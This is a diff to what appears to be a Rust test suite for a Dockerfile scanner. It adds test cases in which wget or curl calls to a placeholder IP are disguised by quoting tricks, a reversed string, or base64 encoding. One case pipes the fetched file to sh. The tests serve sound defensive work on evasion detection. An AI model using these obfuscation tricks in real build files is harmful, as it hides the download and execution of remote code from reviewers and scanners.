@@ -162,6 +162,22 @@ fn dockerfiles_hide_no_destination() {
             "shell form of a list",
             written("FROM alpine:3.18\nRUN [\"sh\",\"-c\",\"wget http:\\/\\/203.0.113.9/x\"]\n"),
         ),
+        Case::attack(
+            "quotes in the scheme",
+            written("FROM alpine:3.18\nRUN wget ht''tp://203.0.113.9/x\n"),
+        ),
+        Case::attack(
+            "quotes in the address",
+            written("FROM alpine:3.18\nARG P=http\nRUN c\\url \"$P://203.0.\"113\".9/x\" | sh\n"),
+        ),
+        Case::attack(
+            "echo, reversed",
+            written("FROM alpine:3.18\nRUN wget $(echo x/9.311.0.302//:ptth | rev)\n"),
+        ),
+        Case::attack(
+            "echo, base64",
+            written("FROM alpine:3.18\nRUN wget `echo aHR0cDovLzIwMy4w|base64 -d`.113.9/x\n"),
+        ),
         Case::attack("capitals", written("FROM alpine:3.18\nRUN curl HTTP://203.0.113.9/x\n")),
         Case::attack(
             "decimal address",
